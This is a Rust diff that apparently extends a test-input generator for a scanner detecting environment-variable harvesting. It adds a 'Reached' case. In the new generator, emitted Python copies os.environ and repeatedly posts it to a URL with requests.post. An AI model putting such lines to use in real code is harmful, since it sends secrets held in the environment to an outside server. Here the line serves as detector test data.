@@ -518,9 +518,12 @@ enum Code {
     DottedName,
     LoopsInTry,
     Harvests,
+    /// The environment collected, handed from name to name, and many
+    /// calls to the network: followed forward once, checked per call.
+    Reached,
 }
 
-const CODE: [Code; 12] = [
+const CODE: [Code; 13] = [
     Code::Concatenation,
     Code::Doubling,
     Code::Aliases,
@@ -533,6 +536,7 @@ const CODE: [Code; 12] = [
     Code::DottedName,
     Code::LoopsInTry,
     Code::Harvests,
+    Code::Reached,
 ];
 
 impl Code {
@@ -648,6 +652,17 @@ impl Code {
             Code::Harvests => {
                 while out.len() < n {
                     out.push_str("env = dict(os.environ); subprocess.run(['x'], env=env)\n");
+                }
+                py
+            }
+            Code::Reached => {
+                out.push_str("import os\nd0 = dict(os.environ)\n");
+                while out.len() < n {
+                    i += 1;
+                    out.push_str(&format!(
+                        "d{i} = {{'v': d{}}}\nrequests.post(U, json=x{i}, data=os.environ)\n",
+                        i - 1
+                    ));
                 }
                 py
             }
